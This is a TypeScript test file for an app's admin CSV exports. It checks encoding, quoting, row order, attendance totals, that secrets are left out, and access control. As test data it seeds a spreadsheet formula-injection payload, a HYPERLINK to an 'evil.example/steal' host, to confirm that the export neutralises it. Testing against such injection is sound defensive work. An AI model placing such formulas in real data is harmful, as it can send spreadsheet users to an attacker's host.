import { buffer } from 'node:stream/consumers';
import { asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { calendarDate, EXPORT_KINDS } from '@studyhall/shared';
import {
  accounts,
  bookedSessions,
  meetingAttendance,
  sessionMeetings,
  studySessions,
} from '../../../src/db/schema';
import { csvExports } from '../../../src/modules/exports/tables';
import {
  createBooking,
  createLesson,
  createLessonType,
  createPayment,
  createSession,
} from '../../../src/seed/factories';
import { createTestContext, type TestContext, type TestUser } from '../../helper';
import { csvObjects, parseCsv } from './parse-csv';

/*
 * The admin's CSV exports (docs/product.md#exports): a file to download, UTF-8 with a byte order
 * mark and a header row, RFC 4180, every cell a spreadsheet would run as a formula made text, and
 * nothing secret in it.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click me")';
const NAMES = ['山田太郎', 'Ωμέγα Δέλτα', 'عربى سلمى', 'Zoë “Quotes”, Jr.'];

let ctx: TestContext;
let admin: TestUser;
let tutor: TestUser;
let students: TestUser[];
beforeAll(async () => {
  ctx = await createTestContext({ TIME_ZONE: 'Asia/Tokyo' });
  [admin, tutor, ...students] = await Promise.all([
    ctx.signUp('admin'),
    ctx.signUp('tutor', { name: '+Tutor @home' }),
    ...NAMES.map((name) => ctx.signUp('student', { name })),
  ]);
  const session = await createSession(ctx.app.db, tutor.user, {
    title: HYPERLINK,
    location: 'Room 4, "east" wing\nsecond floor',
    meetingUrl: 'https://meet.example/secret-room',
    feeCents: 1999,
  });
  for (const student of students) {
    const booking = await createBooking(ctx.app.db, student.user, session, `pi_${student.user.id}`);
    await createPayment(ctx.app.db, {
      providerIntentId: booking.paymentIntentId!,
      amountCents: 1999,
      student: student.user,
      session,
    });
  }
  const lessonType = await createLessonType(ctx.app.db, tutor.user);
  await createLesson(ctx.app.db, lessonType, students[0]!.user, new Date(Date.now() + 86_400_000));
});
afterAll(() => ctx.close());

/** As `user`; `null` for someone not signed in. */
function download(kind: string, user: TestUser | null = admin) {
  return ctx.app.inject({
    url: `/api/admin/export/${kind}.csv`,
    ...(user ? { headers: user.headers } : {}),
  });
}

/** The file's text as a spreadsheet reads it: UTF-8, its byte order mark taken off. */
function text(body: Buffer): string {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder('utf-8', { fatal: true }).decode(body.subarray(3));
}

describe('GET /api/admin/export/{kind}.csv', () => {
  it.each(EXPORT_KINDS)(
    '%s: an attachment, UTF-8 with a byte order mark and a header row',
    async (kind) => {
      const response = await download(kind);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      const today = calendarDate(new Date(), 'Asia/Tokyo');
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="studyhall-${kind}-${today}.csv"`,
      );
      expect(response.headers['cache-control']).toBe('private, no-store');
      const records = parseCsv(text(response.rawPayload));
      expect(records.length).toBeGreaterThan(1);
      expect(records[0]!.every((name) => /^[a-z_]+$/.test(name))).toBe(true);
    },
  );

  it('makes a formula text and keeps quotes, commas and line breaks in their cell', async () => {
    const csv = text((await download('sessions')).rawPayload);
    // What the file says, byte for byte: quoted because of its quotes, prefixed, quotes doubled.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""Click me"")"`);
    const [session] = csvObjects(csv).filter((row) => row.tutor_email === tutor.user.email);
    expect(session).toMatchObject({
      title: `'${HYPERLINK}`,
      tutor_name: "'+Tutor @home",
      location: 'Room 4, "east" wing\nsecond floor',
      fee_usd: '19.99',
    });
    const bookings = csvObjects(text((await download('bookings')).rawPayload));
    expect(bookings.map((row) => row.session_title)).toEqual(NAMES.map(() => `'${HYPERLINK}`));
  });

  it('round-trips names in any script as UTF-8', async () => {
    const users = csvObjects(text((await download('users')).rawPayload));
    for (const name of NAMES) expect(users.map((row) => row.name)).toContain(name);
    const bookings = csvObjects(text((await download('bookings')).rawPayload));
    expect(bookings.map((row) => row.student_name)).toEqual(NAMES);
    expect(bookings[0]).toMatchObject({
      student_email: students[0]!.user.email,
      fee_usd: '19.99',
      refunded_usd: '0.00',
      status: 'booked',
      payment_intent_id: `pi_${students[0]!.user.id}`,
    });
  });

  it('lists the rows oldest first, each once, across batches, to the microsecond', async () => {
    // Two bookings made in the same microsecond, two a microsecond later: a cursor cut to the
    // millisecond, as a JS Date is, would read some twice or skip them.
    const rows = await ctx.app.db.select({ id: bookedSessions.id }).from(bookedSessions);
    const ids = rows.map((row) => row.id).sort();
    for (const [index, id] of ids.entries()) {
      const at = index < 2 ? '2030-01-01 00:00:00.000001+00' : '2030-01-01 00:00:00.000002+00';
      await ctx.app.db
        .update(bookedSessions)
        .set({ bookedAt: sql`${at}::timestamptz` })
        .where(eq(bookedSessions.id, id));
    }
    for (const batchRows of [1, 2, 3, 1000]) {
      const csv = text(await buffer(csvExports.bookings(ctx.app.db, batchRows)));
      expect(csvObjects(csv).map((row) => row.booking_id)).toEqual(ids);
    }
    const payments = csvObjects(text((await download('payments')).rawPayload));
    expect(payments.map((row) => row.status)).toEqual(NAMES.map(() => 'paid'));
  });

  it("sums up each booking's attendance over its meetings", async () => {
    const bookings = await ctx.app.db
      .select({ id: bookedSessions.id, sessionId: bookedSessions.sessionId })
      .from(bookedSessions)
      .where(eq(bookedSessions.studentId, students[0]!.user.id));
    const meetings = await ctx.app.db
      .select({ id: sessionMeetings.id })
      .from(sessionMeetings)
      .where(eq(sessionMeetings.sessionId, bookings[0]!.sessionId))
      .orderBy(asc(sessionMeetings.startsAt));
    expect(meetings.length).toBeGreaterThanOrEqual(2);
    const bookingOf = async (student: TestUser) =>
      (
        await ctx.app.db
          .select({ id: bookedSessions.id })
          .from(bookedSessions)
          .where(eq(bookedSessions.studentId, student.user.id))
      )[0]!.id;
    const marks: [TestUser, number, 'present' | 'absent'][] = [
      [students[0]!, 0, 'present'],
      [students[0]!, 1, 'present'],
      [students[1]!, 0, 'absent'],
      [students[2]!, 0, 'present'],
      [students[2]!, 1, 'absent'],
    ];
    for (const [student, meeting, status] of marks) {
      await ctx.app.db
        .insert(meetingAttendance)
        .values({ bookingId: await bookingOf(student), meetingId: meetings[meeting]!.id, status });
    }
    const rows = csvObjects(text((await download('bookings')).rawPayload));
    expect(
      students.map((student) => {
        const row = rows.find((found) => found.student_email === student.user.email)!;
        return [row.attendance, row.meetings_present, row.meetings_absent];
      }),
    ).toEqual([
      ['present', '2', '0'],
      ['absent', '0', '1'],
      ['mixed', '1', '1'],
      ['', '0', '0'],
    ]);
  });

  it('never carries a password, a client secret or a meeting link', async () => {
    const [credential] = await ctx.app.db
      .select({ password: accounts.password })
      .from(accounts)
      .where(eq(accounts.userId, students[0]!.user.id));
    expect(credential?.password).toBeTruthy();
    const [session] = await ctx.app.db.select().from(studySessions).limit(1);
    for (const kind of EXPORT_KINDS) {
      const csv = text((await download(kind)).rawPayload);
      expect(csv).not.toContain(credential!.password!);
      expect(csv).not.toContain('pi_sandbox_secret_');
      expect(csv).not.toContain(session!.meetingUrl!);
      expect(csv.toLowerCase()).not.toMatch(/password|secret/);
    }
  });

  it('is for admins only, and names the kinds there are', async () => {
    expect((await download('bookings', null)).statusCode).toBe(401);
    for (const user of [tutor, students[0]!]) {
      expect((await download('bookings', user)).statusCode).toBe(403);
    }
    const unknown = await download('accounts');
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json()).toEqual({
      message: 'The export must be bookings, payments, users, sessions or lessons (kind)',
    });
  });
});
